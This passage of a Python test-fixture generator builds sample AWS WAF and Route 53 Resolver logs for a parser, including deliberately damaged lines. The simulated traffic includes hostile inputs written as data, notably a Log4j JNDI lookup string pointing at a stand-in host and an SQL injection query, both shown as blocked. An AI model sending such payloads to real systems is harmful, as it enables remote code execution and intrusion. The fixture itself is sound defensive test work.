"""Sample files for the JSON security logs (WAF, Route 53 Resolver, Network Firewall alert, flow
and TLS logs).

The same rules hold as for the other sample generators: every record is built first as typed
values (ints, UTC datetimes, nested dicts and lists, ``None`` for null), then its JSON line is
rendered from those values by the small ``wire_*`` functions below, never by awslogparse. What
the library must return is that typed record completed against the format's spec file: every
declared key present (``None`` when AWS left it out), nested structs likewise, undeclared keys as
written. Each file keeps AWS's S3 key layout; damaged lines record the reason the parser should
give (a substring of it: ``JSON`` for a line that is not JSON, the field name for a value of the
wrong type).

Addresses are private (RFC 1918) inside the VPC and from the documentation ranges (RFC 5737,
RFC 3849) outside it; 123456789012 is AWS's documentation account; distribution, resolver,
rule group, certificate, request and flow ids are made up.

Run ``python samples/make_security_samples.py [--out DIR]`` to write the files (gzip, mtime 0)
under ``samples/`` or ``DIR``.
"""

from __future__ import annotations

import argparse
import base64
import copy
import gzip
import json
import random
import sys
import tomllib
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

Record = dict[str, Any]

HERE = Path(__file__).resolve().parent
SPECS = HERE.parent / "formats"
ACCOUNT = "123456789012"
REGION = "us-east-1"
T0 = datetime(2026, 11, 21, tzinfo=UTC)
EPOCH = datetime(1970, 1, 1, tzinfo=UTC)
EVIDENCE = "key pattern and content agree"

NOT_JSON = "JSON"
"""Reason substring for a line that does not decode as a JSON object."""


@dataclass
class Sample:
    """One sample file: its key under samples/, its lines, and what each line means (the same
    interface as ``make_samples.Sample``, counted in units: one JSON object a line)."""

    key: str
    format: str
    title: str
    compressed: bool = True
    evidence: str = EVIDENCE
    lines: list[str] = field(default_factory=list)
    records: list[tuple[int, Record]] = field(default_factory=list)
    errors: list[tuple[int, str, str]] = field(default_factory=list)

    @property
    def name(self) -> str:
        return self.key.rsplit("/", 1)[-1]

    @property
    def stem(self) -> str:
        return self.name.removesuffix(".gz").removesuffix(".log")

    def add(self, line: str, record: Record) -> None:
        assert "\n" not in line and "\r" not in line, line
        self.lines.append(line)
        self.records.append((len(self.lines), record))

    def broken(self, raw: str, reason: str) -> None:
        assert "\n" not in raw, raw
        self.lines.append(raw)
        self.errors.append((len(self.lines), reason, raw))

    def data(self) -> bytes:
        return ("\n".join(self.lines) + "\n").encode("utf-8")

    def stats(self) -> dict[str, int]:
        return {"units": len(self.lines), "records": len(self.records),
                "errors": len(self.errors)}


# ---- the spec: which keys a record holds ---------------------------------------------------


def spec_fields(fmt: str) -> list[dict[str, Any]]:
    """The ``[[fields]]`` tables of ``formats/<fmt>.toml`` (the declared keys, nested)."""
    with (SPECS / f"{fmt}.toml").open("rb") as fh:
        fields: list[dict[str, Any]] = tomllib.load(fh)["fields"]
    return fields


def complete(fields: Sequence[dict[str, Any]], value: Record) -> Record:
    """A typed object as the library returns it: every declared key (``None`` when absent),
    structs and lists of structs completed the same way, undeclared keys kept as written."""
    out: Record = {}
    for f in fields:
        out[f["name"]] = _complete_value(f, value.get(f["name"]))
    for key, item in value.items():
        out.setdefault(key, item)
    return out


def _complete_value(f: dict[str, Any], value: Any) -> Any:
    if value is None:
        return None
    if f["type"] == "struct":
        return complete(f["children"], value)
    if f["type"] == "list" and f.get("items") == "struct":
        return [complete(f["children"], item) for item in value]
    return value


def compact(wire: Record) -> str:
    """One JSON line, compact as AWS writes it."""
    return json.dumps(wire, separators=(",", ":"), ensure_ascii=False)


def epoch_ms(value: datetime) -> int:
    assert value.tzinfo is UTC
    return (value - EPOCH) // timedelta(milliseconds=1)


def epoch_s(value: datetime) -> int:
    assert value.tzinfo is UTC and not value.microsecond
    return (value - EPOCH) // timedelta(seconds=1)


# ---- AWS WAF ---------------------------------------------------------------------------------

WAF_FIELDS = spec_fields("waf")
ACL_ID = "9f6e0c2a-5b4d-4e3f-8a1b-2c3d4e5f6a7b"
CF_ACL_ID = "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d"
ALB_SOURCE = f"{ACCOUNT}-app/my-alb/1a2b3c4d5e6f7a8b"
APIGW_SOURCE = f"{ACCOUNT}:a1b2c3d4e5:prod"
DISTRIBUTION = "E1ABCDEF2GHIJK"

BROWSER_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/131.0.0.0 Safari/537.36")
FIREFOX_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"
CURL_UA = "curl/8.5.0"
PY_UA = "python-requests/2.32.3"
JA3 = {"chrome": "cd08e31494f9531f560d64c695473da9", "firefox": "b5001237acdf006056b409cc433726b0",
       "curl": "375c6162a492dfbf2795909110ce8424", "python": "8d9f7747675e24454cd9b7ed35c58707"}
JA4 = {"chrome": "t13d1516h2_8daaf6152771_02713d6af862",
       "firefox": "t13d1715h2_5b57614c22b0_3d5424432f57",
       "curl": "t13d3112h2_e8f1e7e78f70_6bebaf5329ac",
       "python": "t13d1812h1_85036bcba153_b26ce05bbdd6"}

SQLI = {"conditionType": "SQL_INJECTION", "sensitivityLevel": "LOW", "location": "QUERY_STRING",
        "matchedData": ["1", "OR", "1=1"]}
XSS = {"conditionType": "XSS", "location": "BODY", "matchedData": ["<", "script"]}


def header_list(pairs: Sequence[tuple[str, str]]) -> list[Record]:
    return [{"name": name, "value": value} for name, value in pairs]


def browser_headers(host: str, ua: str, *extra: tuple[str, str]) -> list[Record]:
    return header_list([("host", host), ("user-agent", ua),
                        ("accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
                        ("accept-language", "en-US,en;q=0.9"),
                        ("accept-encoding", "gzip, deflate, br"), *extra])


def waf_record(t: datetime, acl: str, source: tuple[str, str], request: Record, *,
               action: str = "ALLOW", rule: str = "Default_Action", rule_type: str = "REGULAR",
               match: Sequence[Record] = (), groups: Sequence[Record] = (),
               rate: Sequence[Record] = (), counted: Sequence[Record] = (),
               inserted: list[Record] | None = None, response_code: int | None = None,
               **tail: Any) -> Record:
    """A WAF record as typed values, keys in the order AWS writes them. ``tail`` holds the
    optional trailing keys (labels, captchaResponse, oversizeFields, ja3Fingerprint, ...)."""
    rec: Record = {
        "timestamp": t,
        "formatVersion": 1,
        "webaclId": acl,
        "terminatingRuleId": rule,
        "terminatingRuleType": rule_type,
        "action": action,
        "terminatingRuleMatchDetails": list(match),
        "httpSourceName": source[0],
        "httpSourceId": source[1],
        "ruleGroupList": list(groups),
        "rateBasedRuleList": list(rate),
        "nonTerminatingMatchingRules": list(counted),
        "requestHeadersInserted": inserted,
        "responseCodeSent": response_code,
        "httpRequest": request,
    }
    order = ("labels", "captchaResponse", "challengeResponse", "oversizeFields", "requestBodySize",
             "requestBodySizeInspectedByWAF", "ja3Fingerprint", "ja4Fingerprint",
             "cfDistributionTenantId")
    assert set(tail) <= set(order), tail
    rec.update({key: tail[key] for key in order if key in tail})
    return rec


def http_request(client: str, country: str | None, method: str, uri: str, args: str,  # noqa: PLR0917
                 headers: list[Record], request_id: str, version: str = "HTTP/1.1",
                 **newer: str) -> Record:
    """``httpRequest``; ``country=None`` is written as AWS's ``-``; ``newer`` holds fragment,
    scheme and host (written by newer records only)."""
    req: Record = {"clientIp": client, "country": country, "headers": headers, "uri": uri,
                   "args": args, "httpVersion": version, "httpMethod": method,
                   "requestId": request_id}
    req.update(newer)
    return req


def group(group_id: str, terminating: Record | None = None,
          counted: Sequence[Record] = (), excluded: Any = None) -> Record:
    return {"ruleGroupId": group_id, "terminatingRule": terminating,
            "nonTerminatingMatchingRules": list(counted), "excludedRules": excluded}


def wire_waf(rec: Record) -> Record:
    """What AWS writes for a typed WAF record: epoch-ms timestamp, ``-`` for an unknown country."""
    wire = copy.deepcopy(rec)
    wire["timestamp"] = epoch_ms(rec["timestamp"])
    if wire["httpRequest"]["country"] is None:
        wire["httpRequest"]["country"] = "-"
    return wire


def trace_id(rnd: random.Random, t: datetime) -> str:
    return f"1-{epoch_s(t.replace(microsecond=0)):08x}-{rnd.getrandbits(96):024x}"


def cf_request_id(rnd: random.Random) -> str:
    raw = base64.urlsafe_b64encode(rnd.randbytes(39)).decode()
    return raw[:54] + "=="


def add_waf(s: Sample, rec: Record) -> None:
    s.add(compact(wire_waf(rec)), complete(WAF_FIELDS, rec))


def sample_waf_regional() -> Sample:
    """Regional web ACL on an Application Load Balancer and an API Gateway stage."""
    rnd = random.Random(4101)
    acl = f"arn:aws:wafv2:{REGION}:{ACCOUNT}:regional/webacl/my-web-acl/{ACL_ID}"
    s = Sample(
        key=(f"AWSLogs/{ACCOUNT}/WAFLogs/{REGION}/my-web-acl/2026/11/21/00/05/"
             f"{ACCOUNT}_waflogs_{REGION}_my-web-acl_20261121T0005Z_1a2b3c4d.log.gz"),
        format="waf",
        title=("WAF regional web ACL (ALB and API Gateway): allowed traffic, managed rule group "
               "blocks, SQLi/XSS match details, rate-based block with a custom response, counted "
               "rules with overrides, inserted headers, oversize bodies, one damaged line"),
    )
    alb = ("ALB", ALB_SOURCE)
    api = ("APIGW", APIGW_SOURCE)
    host = "shop.example.com"
    t = T0 + timedelta(minutes=5, seconds=1, milliseconds=117)
    crs = "AWS#AWSManagedRulesCommonRuleSet"
    bad_inputs = "AWS#AWSManagedRulesKnownBadInputsRuleSet"
    ip_rep = "AWS#AWSManagedRulesAmazonIpReputationList"
    sqli_group = "AWS#AWSManagedRulesSQLiRuleSet"
    rate_arn = f"arn:aws:wafv2:{REGION}:{ACCOUNT}:regional/ratebasedstatement/my-web-acl/"
    browsers = [("203.0.113.24", "US", "chrome", BROWSER_UA),
                ("198.51.100.73", "DE", "firefox", FIREFOX_UA),
                ("2001:db8:4f2a::18", "FR", "chrome", BROWSER_UA),
                ("192.0.2.146", "JP", "chrome", BROWSER_UA)]

    def step() -> datetime:
        nonlocal t
        t += timedelta(milliseconds=rnd.randint(180, 14000))
        return t

    def alb_tail(kind: str) -> dict[str, Any]:
        return {"ja3Fingerprint": JA3[kind], "ja4Fingerprint": JA4[kind]}

    # Ordinary browsing, nothing matched.
    for n, path in enumerate(["/", "/products", "/products/4711", "/cart", "/static/app.js"]):
        ip, country, kind, ua = browsers[n % len(browsers)]
        now = step()
        args = "category=shoes&page=2" if path == "/products" else ""
        req = http_request(ip, country, "GET", path, args,
                           browser_headers(host, ua, ("x-forwarded-proto", "https")),
                           trace_id(rnd, now))
        add_waf(s, waf_record(now, acl, alb, req, **alb_tail(kind)))

    # Managed rule group blocks a query-string SQL injection; details at both levels.
    now = step()
    req = http_request("198.51.100.201", "NL", "GET", "/products", "id=1%20OR%201=1",
                       header_list([("host", host), ("user-agent", PY_UA), ("accept", "*/*")]),
                       trace_id(rnd, now))
    add_waf(s, waf_record(
        now, acl, alb, req, action="BLOCK", rule="AWS-AWSManagedRulesSQLiRuleSet",
        rule_type="MANAGED_RULE_GROUP", match=[SQLI],
        groups=[group(sqli_group, {"ruleId": "SQLi_QUERYARGUMENTS", "action": "BLOCK",
                                   "ruleMatchDetails": [SQLI]})],
        labels=[{"name": "awswaf:managed:aws:sql-database:SQLi_QueryArguments"}],
        **alb_tail("python")))

    # Cross-site scripting in a POST body, blocked by the common rule set.
    now = step()
    req = http_request("203.0.113.77", "BR", "POST", "/api/reviews", "",
                       header_list([("host", host), ("user-agent", BROWSER_UA),
                                    ("content-type", "application/x-www-form-urlencoded"),
                                    ("content-length", "187")]),
                       trace_id(rnd, now))
    add_waf(s, waf_record(
        now, acl, alb, req, action="BLOCK", rule="AWS-AWSManagedRulesCommonRuleSet",
        rule_type="MANAGED_RULE_GROUP", match=[XSS],
        groups=[group(crs, {"ruleId": "CrossSiteScripting_BODY", "action": "BLOCK",
                            "ruleMatchDetails": [XSS]})],
        labels=[{"name": "awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body"}],
        requestBodySize=187, requestBodySizeInspectedByWAF=187, **alb_tail("chrome")))

    # Log4j probe in a header, known-bad-inputs group; the IP reputation group only counts
    # (overridden to COUNT in the web ACL).
    now = step()
    req = http_request("192.0.2.33", "US", "GET", "/", "",
                       header_list([("host", host), ("user-agent", "${jndi:ldap://192.0.2.33/a}"),
                                    ("accept", "*/*")]),
                       trace_id(rnd, now))
    add_waf(s, waf_record(
        now, acl, alb, req, action="BLOCK", rule="AWS-AWSManagedRulesKnownBadInputsRuleSet",
        rule_type="MANAGED_RULE_GROUP",
        groups=[group(ip_rep, None, [{"ruleId": "AWSManagedIPReputationList", "action": "COUNT",
                                      "overriddenAction": "BLOCK", "ruleMatchDetails": []}]),
                group(bad_inputs, {"ruleId": "Log4JRCE_HEADER", "action": "BLOCK",
                                   "ruleMatchDetails": None})],
        labels=[{"name": "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList"},
                {"name": "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"}],
        **alb_tail("curl")))

    # Credential stuffing on /login: counted, then blocked by the rate-based rule with a
    # custom 429 response.
    stuffer = "198.51.100.9"
    login = header_list([("host", host), ("user-agent", PY_UA),
                         ("content-type", "application/json"), ("content-length", "64")])
    rate_rule = {"rateBasedRuleId": f"{rate_arn}0f1e2d3c-4b5a-4968-8776-5a4b3c2d1e0f",
                 "rateBasedRuleName": "login-rate-limit", "limitKey": "IP",
                 "maxRateAllowed": 100, "evaluationWindowSec": 300, "limitValue": stuffer}
    for n in range(3):
        now = step()
        req = http_request(stuffer, "US", "POST", "/login", "", login, trace_id(rnd, now))
        if n < 2:
            add_waf(s, waf_record(
                now, acl, alb, req,
                counted=[{"ruleId": "login-watch", "action": "COUNT", "ruleMatchDetails": []}],
                labels=[{"name": "custom:login-attempt"}], requestBodySize=64,
                requestBodySizeInspectedByWAF=64, **alb_tail("python")))
        else:
            add_waf(s, waf_record(
                now, acl, alb, req, action="BLOCK", rule="login-rate-limit",
                rule_type="RATE_BASED", rate=[rate_rule], response_code=429,
                labels=[{"name": "custom:login-attempt"}], requestBodySize=64,
                requestBodySizeInspectedByWAF=64, **alb_tail("python")))

    # Damaged: the collector cut a line short (not JSON any more).
    now = step()
    req = http_request("203.0.113.24", "US", "GET", "/account", "",
                       browser_headers(host, BROWSER_UA), trace_id(rnd, now))
    whole = compact(wire_waf(waf_record(now, acl, alb, req)))
    s.broken(whole[:173], NOT_JSON)

    # API Gateway stage: allowed calls, a request with an inserted header (custom request
    # handling), an unknown country, an oversize body and a legacy excluded rule.
    api_host = "a1b2c3d4e5.execute-api.us-east-1.amazonaws.com"
    api_headers = header_list([("Host", api_host), ("User-Agent", CURL_UA), ("Accept", "*/*"),
                               ("X-Forwarded-For", "203.0.113.190")])
    for path, args in [("/prod/orders", "status=open"), ("/prod/orders/8812", ""),
                       ("/prod/health", "")]:
        now = step()
        req = http_request("203.0.113.190", "CA", "GET", path, args, api_headers,
                           base64.b64encode(rnd.randbytes(12)).decode())
        add_waf(s, waf_record(now, acl, api, req))
    now = step()
    req = http_request("203.0.113.191", "CA", "GET", "/prod/orders", "", api_headers,
                       base64.b64encode(rnd.randbytes(12)).decode())
    add_waf(s, waf_record(
        now, acl, api, req,
        counted=[{"ruleId": "tag-partner-traffic", "action": "COUNT", "ruleMatchDetails": []}],
        inserted=[{"name": "x-amzn-waf-partner", "value": "acme"}],
        labels=[{"name": "custom:partner"}]))
    now = step()
    req = http_request("2001:db8:77::5", None, "PUT", "/prod/uploads/report.csv", "",
                       header_list([("Host", api_host), ("User-Agent", CURL_UA),
                                    ("Content-Type", "text/csv"),
                                    ("Content-Length", "20480")]),
                       base64.b64encode(rnd.randbytes(12)).decode())
    add_waf(s, waf_record(
        now, acl, api, req, action="BLOCK", rule="AWS-AWSManagedRulesCommonRuleSet",
        rule_type="MANAGED_RULE_GROUP",
        groups=[group(crs, {"ruleId": "SizeRestrictions_BODY", "action": "BLOCK",
                            "ruleMatchDetails": None},
                      excluded=[{"exclusionType": "EXCLUDED_AS_COUNT",
                                 "ruleId": "NoUserAgent_HEADER"}])],
        labels=[{"name": "awswaf:managed:aws:core-rule-set:SizeRestrictions_Body"}],
        oversizeFields=["REQUEST_BODY"], requestBodySize=20480,
        requestBodySizeInspectedByWAF=8192))

    # More ALB browsing, one with duplicate headers (kept in order).
    for n in range(6):
        ip, country, kind, ua = browsers[(n + 1) % len(browsers)]
        now = step()
        path = rnd.choice(["/products/4711", "/search", "/", "/cart/checkout"])
        args = "q=running+shoes" if path == "/search" else ""
        extra = [("cookie", "session=ab12"), ("cookie", "theme=dark")] if n == 2 else []
        req = http_request(ip, country, "GET", path, args,
                           browser_headers(host, ua, *extra), trace_id(rnd, now))
        add_waf(s, waf_record(now, acl, alb, req, **alb_tail(kind)))
    return s


def sample_waf_cloudfront() -> Sample:
    """CloudFront-scope web ACL: bot control, CAPTCHA and Challenge, geo blocking."""
    rnd = random.Random(4102)
    acl = f"arn:aws:wafv2:us-east-1:{ACCOUNT}:global/webacl/my-cf-web-acl/{CF_ACL_ID}"
    s = Sample(
        key=(f"AWSLogs/{ACCOUNT}/WAFLogs/cloudfront/my-cf-web-acl/2026/11/21/00/10/"
             f"{ACCOUNT}_waflogs_cloudfront_my-cf-web-acl_20261121T0010Z_5e6f7a8b.log.gz"),
        format="waf",
        title=("WAF CloudFront web ACL: bot control labels, CAPTCHA and Challenge (terminating "
               "and solved), geo block, custom-key rate rule, JA3/JA4, distribution tenant, "
               "one value of the wrong type"),
    )
    cf = ("CF", DISTRIBUTION)
    host = "www.example.com"
    cf_host = "d111111abcdef8.cloudfront.net"
    t = T0 + timedelta(minutes=10, seconds=2, milliseconds=404)
    bot = "AWS#AWSManagedRulesBotControlRuleSet"

    def step() -> datetime:
        nonlocal t
        t += timedelta(milliseconds=rnd.randint(300, 16000))
        return t

    def req(ip: str, country: str | None, uri: str, ua: str, args: str = "",  # noqa: PLR0917
            method: str = "GET", fragment: str = "") -> Record:
        return http_request(ip, country, method, uri, args,
                            browser_headers(cf_host, ua), cf_request_id(rnd), "HTTP/2.0",
                            fragment=fragment, scheme="https", host=host)

    geo = [{"name": "awswaf:clientip:geo:country:US"}, {"name": "awswaf:clientip:geo:region:US-WA"}]
    # Verified browsers, allowed.
    for uri in ["/", "/blog/2026/11/launch", "/assets/site.css", "/favicon.ico"]:
        add_waf(s, waf_record(step(), acl, cf, req("203.0.113.50", "US", uri, BROWSER_UA),
                              labels=geo, ja3Fingerprint=JA3["chrome"],
                              ja4Fingerprint=JA4["chrome"]))

    # Bot control: an HTTP library is counted with its labels (the group's rule overridden to
    # COUNT), a scraper is challenged.
    scraper_labels = [{"name": "awswaf:managed:aws:bot-control:bot:category:http_library"},
                      {"name": "awswaf:managed:aws:bot-control:signal:non_browser_user_agent"}]
    add_waf(s, waf_record(
        step(), acl, cf, req("198.51.100.120", "GB", "/feed.xml", PY_UA),
        groups=[group(bot, None, [{"ruleId": "CategoryHttpLibrary", "action": "COUNT",
                                   "overriddenAction": "BLOCK", "ruleMatchDetails": []}])],
        labels=scraper_labels, ja3Fingerprint=JA3["python"], ja4Fingerprint=JA4["python"]))
    add_waf(s, waf_record(
        step(), acl, cf, req("198.51.100.121", "GB", "/pricing", PY_UA), action="CHALLENGE",
        rule="challenge-non-browsers", response_code=202, labels=scraper_labels,
        challengeResponse={"responseCode": 202, "solveTimestamp": 0,
                           "failureReason": "TOKEN_MISSING"},
        ja3Fingerprint=JA3["python"], ja4Fingerprint=JA4["python"]))

    # CAPTCHA on the sign-up form: shown (no token), then solved (non-terminating match).
    signup = req("192.0.2.88", "IN", "/signup", FIREFOX_UA)
    add_waf(s, waf_record(
        step(), acl, cf, signup, action="CAPTCHA", rule="captcha-signup", response_code=405,
        captchaResponse={"responseCode": 405, "solveTimestamp": 0,
                         "failureReason": "TOKEN_MISSING"},
        ja3Fingerprint=JA3["firefox"], ja4Fingerprint=JA4["firefox"]))
    solved = epoch_s((t + timedelta(seconds=9)).replace(microsecond=0))
    now = step()
    add_waf(s, waf_record(
        now, acl, cf, req("192.0.2.88", "IN", "/signup", FIREFOX_UA, method="POST"),
        counted=[{"ruleId": "captcha-signup", "action": "CAPTCHA", "ruleMatchDetails": [],
                  "captchaResponse": {"responseCode": 0, "solveTimestamp": solved}}],
        labels=[{"name": "awswaf:captcha:solved"}],
        captchaResponse={"responseCode": 0, "solveTimestamp": solved},
        requestBodySize=412, requestBodySizeInspectedByWAF=412,
        ja3Fingerprint=JA3["firefox"], ja4Fingerprint=JA4["firefox"]))

    # An expired challenge token, answered with a new challenge.
    add_waf(s, waf_record(
        step(), acl, cf, req("203.0.113.51", "US", "/account", BROWSER_UA), action="CHALLENGE",
        rule="challenge-account", response_code=202,
        challengeResponse={"responseCode": 202, "solveTimestamp": 1795046400,
                           "failureReason": "TOKEN_EXPIRED"},
        labels=geo, ja3Fingerprint=JA3["chrome"], ja4Fingerprint=JA4["chrome"]))

    # Geo block and an unknown origin.
    add_waf(s, waf_record(
        step(), acl, cf, req("192.0.2.201", "KP", "/", BROWSER_UA), action="BLOCK",
        rule="geo-block", response_code=403,
        labels=[{"name": "awswaf:clientip:geo:country:KP"}], ja3Fingerprint=JA3["chrome"],
        ja4Fingerprint=JA4["chrome"]))
    add_waf(s, waf_record(step(), acl, cf, req("2001:db8:cafe::17", None, "/", CURL_UA),
                          ja3Fingerprint=JA3["curl"], ja4Fingerprint=JA4["curl"]))

    # Damaged: a timestamp that is not epoch milliseconds.
    now = step()
    wire = wire_waf(waf_record(now, acl, cf, req("203.0.113.50", "US", "/", BROWSER_UA),
                               labels=geo))
    wire["timestamp"] = "yesterday"
    s.broken(compact(wire), "timestamp")

    # Rate limit on custom keys (header + IP), counted, with the key values as AWS logs them.
    api_key = "k-7f3e9a"
    add_waf(s, waf_record(
        step(), acl, cf, req("198.51.100.40", "AU", "/api/v2/items", CURL_UA, args="limit=50"),
        rate=[{"rateBasedRuleId": f"{acl}/ratebased/api-key-rate",
               "rateBasedRuleName": "api-key-rate", "limitKey": "CUSTOMKEYS",
               "maxRateAllowed": 2000, "evaluationWindowSec": 60,
               "customValues": [{"key": "HEADER", "name": "x-api-key", "value": api_key},
                                {"key": "IP", "value": "198.51.100.40"}]}],
        counted=[{"ruleId": "api-key-rate", "action": "COUNT", "ruleMatchDetails": []}],
        labels=[{"name": "custom:api"}], ja3Fingerprint=JA3["curl"], ja4Fingerprint=JA4["curl"]))

    # Requests for two distribution tenants (multi-tenant distribution), one with a fragment.
    for tenant, ip in [("dt_2Xk9LmPq7RsT4uVw", "203.0.113.60"),
                       ("dt_8Hn3JbVc5XzA1sDf", "203.0.113.61")]:
        add_waf(s, waf_record(
            step(), acl, cf, req(ip, "US", "/docs/start", BROWSER_UA, fragment="install"),
            labels=geo, ja3Fingerprint=JA3["chrome"], ja4Fingerprint=JA4["chrome"],
            cfDistributionTenantId=tenant))
    for uri in ["/blog/", "/blog/2026/10/notes", "/assets/app.js"]:
        add_waf(s, waf_record(step(), acl, cf, req("198.51.100.80", "SE", uri, FIREFOX_UA),
                              ja3Fingerprint=JA3["firefox"],
                              ja4Fingerprint=JA4["firefox"]))
    return s


# ---- Route 53 Resolver query logs --------------------------------------------------------------

R53_FIELDS = spec_fields("route53_resolver")
VPC = "vpc-0a1b2c3d4e5f67890"
INBOUND = ("rslvr-in-0a1b2c3d4e5f6a7b8", "rni-0f1e2d3c4b5a69788")
OUTBOUND = "rslvr-out-1b2c3d4e5f6a7b8c9"
FRG = "rslvr-frg-0123456789abcdef0"
FDL_MALWARE = "rslvr-fdl-0a9b8c7d6e5f4a3b2"
FDL_ALERT = "rslvr-fdl-1b2c3d4e5f6a7b8c9"


def iso_resolver(value: datetime) -> str:
    """ISO 8601 UTC with ``Z``; milliseconds only when the time has them."""
    assert value.tzinfo is UTC and value.microsecond % 1000 == 0
    if value.microsecond:
        return f"{value:%Y-%m-%dT%H:%M:%S}.{value.microsecond // 1000:03d}Z"
    return f"{value:%Y-%m-%dT%H:%M:%S}Z"


def resolver_record(t: datetime, name: str, qtype: str, rcode: str,  # noqa: PLR0917
                    answers: Sequence[tuple[str, str]], src: tuple[str, int], srcids: Record,
                    transport: str = "UDP", **firewall: str) -> Record:
    rec: Record = {
        "version": "1.100000", "account_id": ACCOUNT, "region": REGION, "vpc_id": VPC,
        "query_timestamp": t, "query_name": name, "query_type": qtype, "query_class": "IN",
        "rcode": rcode,
        "answers": [{"Rdata": rdata, "Type": rtype, "Class": "IN"} for rdata, rtype in answers],
        "srcaddr": src[0], "srcport": src[1], "transport": transport, "srcids": srcids,
    }
    rec.update(firewall)
    return rec


def wire_resolver(rec: Record) -> Record:
    """What AWS writes: ISO time with ``Z``, the source port as a string."""
    wire = copy.deepcopy(rec)
    wire["query_timestamp"] = iso_resolver(rec["query_timestamp"])
    wire["srcport"] = str(rec["srcport"])
    return wire


def sample_resolver() -> Sample:
    rnd = random.Random(5301)
    s = Sample(
        key=(f"AWSLogs/{ACCOUNT}/vpcdnsquerylogs/{VPC}/2026/11/21/"
             f"{VPC}_vpcdnsquerylogs_{ACCOUNT}_20261121T0005Z_9c8b7a6d.log.gz"),
        format="route53_resolver",
        title=("Route 53 Resolver query log: A/AAAA/CNAME chains, PTR, MX, TXT, SRV, NXDOMAIN, "
               "SERVFAIL, TCP, inbound and outbound endpoints, DNS Firewall ALERT and BLOCK, an "
               "IPv6 client, one value of the wrong type"),
    )
    instances = [("10.0.1.23", "i-0a1b2c3d4e5f60718"), ("10.0.1.57", "i-0b2c3d4e5f6071829"),
                 ("10.0.2.10", "i-0c3d4e5f607182930"), ("2001:db8:10::2a", "i-0d4e5f60718293a4b")]
    t = T0 + timedelta(minutes=5, seconds=3)

    def step() -> datetime:
        nonlocal t
        t += timedelta(milliseconds=rnd.randint(40, 9000))
        # AWS writes whole seconds on most lines, milliseconds on some.
        if rnd.random() < 0.6:
            t = t.replace(microsecond=0)
        else:
            t = t.replace(microsecond=t.microsecond // 1000 * 1000)
        return t

    def from_instance(n: int | None = None) -> tuple[tuple[str, int], Record]:
        addr, inst = instances[rnd.randrange(len(instances)) if n is None else n]
        return (addr, rnd.randint(32768, 60999)), {"instance": inst}

    def add(rec: Record) -> None:
        s.add(compact(wire_resolver(rec)), complete(R53_FIELDS, rec))

    lookups: list[tuple[str, str, str, list[tuple[str, str]]]] = [
        ("api.example.com.", "A", "NOERROR", [("192.0.2.44", "A"), ("198.51.100.6", "A")]),
        ("www.example.org.", "AAAA", "NOERROR",
         [("www.example.org.cdn.example.net.", "CNAME"), ("2001:db8:1::80", "AAAA")]),
        ("sts.us-east-1.amazonaws.com.", "A", "NOERROR", [("203.0.113.18", "A")]),
        ("amzn-s3-demo-bucket.s3.us-east-1.amazonaws.com.", "A", "NOERROR",
         [("s3-r-w.us-east-1.amazonaws.com.", "CNAME"), ("203.0.113.96", "A")]),
        ("example.com.", "MX", "NOERROR", [("10 mail.example.com.", "MX")]),
        ("example.com.", "TXT", "NOERROR", [("\"v=spf1 include:_spf.example.com ~all\"", "TXT")]),
        ("_ldap._tcp.corp.example.internal.", "SRV", "NOERROR",
         [("0 100 389 dc1.corp.example.internal.", "SRV")]),
        ("does-not-exist.example.com.", "A", "NXDOMAIN", []),
        ("23.1.0.10.in-addr.arpa.", "PTR", "NOERROR", [("ip-10-0-1-23.ec2.internal.", "PTR")]),
        ("db.internal.example.com.", "A", "NOERROR", [("10.0.3.41", "A")]),
        ("broken.example.net.", "A", "SERVFAIL", []),
        ("api.example.com.", "AAAA", "NOERROR", []),
    ]
    for n, (name, qtype, rcode, answers) in enumerate(lookups):
        src, ids = from_instance(3 if n == 1 else None)
        add(resolver_record(step(), name, qtype, rcode, answers, src, ids))

    # A large TXT answer retried over TCP.
    src, ids = from_instance(0)
    add(resolver_record(step(), "_dmarc.example.com.", "TXT", "NOERROR",
                        [("\"v=DMARC1; p=reject; rua=mailto:dmarc@example.com\"", "TXT")],
                        src, ids, transport="TCP"))

    # On-premises clients through the inbound endpoint (no instance id).
    inbound = {"resolver_endpoint": INBOUND[0], "resolver_network_interface": INBOUND[1]}
    for name, answer in [("db.internal.example.com.", "10.0.3.41"),
                         ("app.internal.example.com.", "10.0.3.52")]:
        add(resolver_record(step(), name, "A", "NOERROR", [(answer, "A")],
                            ("172.16.20.14", rnd.randint(1024, 65535)), dict(inbound)))

    # Forwarded to on-premises DNS through the outbound endpoint.
    for name, answer in [("fileserver.corp.example.internal.", "172.16.5.20"),
                         ("printer.corp.example.internal.", "172.16.5.31")]:
        src, ids = from_instance(2)
        add(resolver_record(step(), name, "A", "NOERROR", [(answer, "A")], src,
                            {**ids, "resolver_endpoint": OUTBOUND}))

    # Damaged: a source port that is not a number.
    src, ids = from_instance(0)
    wire = wire_resolver(resolver_record(step(), "api.example.com.", "A", "NOERROR",
                                         [("192.0.2.44", "A")], src, ids))
    wire["srcport"] = "http"
    s.broken(compact(wire), "srcport")

    # DNS Firewall: an ALERT rule (answer still given) and BLOCK rules (NODATA, NXDOMAIN and
    # OVERRIDE responses).
    fw_alert = {"firewall_rule_action": "ALERT", "firewall_rule_group_id": FRG,
                "firewall_domain_list_id": FDL_ALERT}
    fw_block = {"firewall_rule_action": "BLOCK", "firewall_rule_group_id": FRG,
                "firewall_domain_list_id": FDL_MALWARE}
    src, ids = from_instance(1)
    add(resolver_record(step(), "paste.example.net.", "A", "NOERROR", [("198.51.100.201", "A")],
                        src, ids, **fw_alert))
    src, ids = from_instance(1)
    add(resolver_record(step(), "c2.malware.example.", "A", "NOERROR", [], src, ids, **fw_block))
    src, ids = from_instance(2)
    add(resolver_record(step(), "update.malware.example.", "A", "NXDOMAIN", [], src, ids,
                        **fw_block))
    src, ids = from_instance(0)
    add(resolver_record(step(), "ads.tracker.example.", "A", "NOERROR",
                        [("blocked.example.com.", "CNAME"), ("192.0.2.1", "A")], src, ids,
                        **fw_block))

